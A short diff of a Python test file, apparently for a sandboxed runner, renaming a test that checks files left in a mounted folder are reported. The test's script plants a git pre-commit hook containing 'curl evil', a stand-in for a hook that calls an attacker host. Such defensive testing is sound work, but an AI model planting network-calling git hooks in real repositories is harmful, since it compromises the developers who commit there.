@@ -67,7 +67,7 @@ def test_a_killed_runner_of_an_ordinary_user_leaves_nothing(here: Installation) 
     assert "lost" in json.dumps(here.say("run", "list", "--all", who="olga"))
 
 
-def test_what_a_user_left_in_a_mount_is_reported(here: Installation) -> None:
+def test_files_left_in_a_mount_are_reported(here: Installation) -> None:
     folder = here.own_folder("work")
     script = "pwd; mkdir -p .git/hooks; echo 'curl evil' > .git/hooks/pre-commit"
     code, report, out = here.report("--mount", f"{folder}:rw", "--", "sh", "-c", script)
